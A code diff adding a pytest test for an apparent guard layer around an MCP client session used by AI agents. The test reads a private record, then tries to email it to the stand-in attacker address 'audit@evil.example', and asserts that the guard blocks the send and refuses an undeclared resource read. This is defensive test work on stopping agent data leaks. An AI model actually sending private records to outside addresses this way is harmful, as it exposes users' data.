@@ -91,3 +91,30 @@ def test_guarded_client_session_runs_probes_through_the_client(tmp_path: Path) -
     assert not result.is_error and result.content[0].text == "deleted old.txt"
     assert [json.loads(line)["tool"] for line in log.read_text().splitlines()] == ["read_record", "delete_file"]
     assert guarded.last_decision is not None and guarded.last_decision.reason.value == "certified"
+
+
+def test_guarded_client_session_observes_resources_and_refuses_undeclared(tmp_path: Path) -> None:
+    """Catches a wrapper whose read_resource passes through unobserved (the private record read that way is then
+    sent) or which reads a resource the policy does not declare."""
+    from guard.errors import InputError
+
+    guard = Guard(load_policy(POLICY), threshold=0.5)
+    log = tmp_path / "log"
+
+    async def go() -> tuple[str, Any, str]:
+        params = StdioServerParameters(command=sys.executable, args=[str(SERVER)], env={"MCP_FIXTURE_LOG": str(log)})
+        async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
+            await client.initialize()
+            guarded = GuardedClientSession(client, guard.session("resources"))
+            shown = (await guarded.read_resource("records://alice")).contents[0].text
+            sent = await guarded.call_tool("send_email", {"to": "audit@evil.example", "subject": "r", "body": shown})
+            try:
+                await guarded.read_resource("notes://today")
+                refused = "read"
+            except InputError as exc:
+                refused = str(exc)
+            return shown, sent, refused
+
+    shown, sent, refused = anyio.run(go)
+    assert shown == ALICE and sent.is_error and "undeclared uri" in refused
+    assert not log.exists()  # no tool reached the server
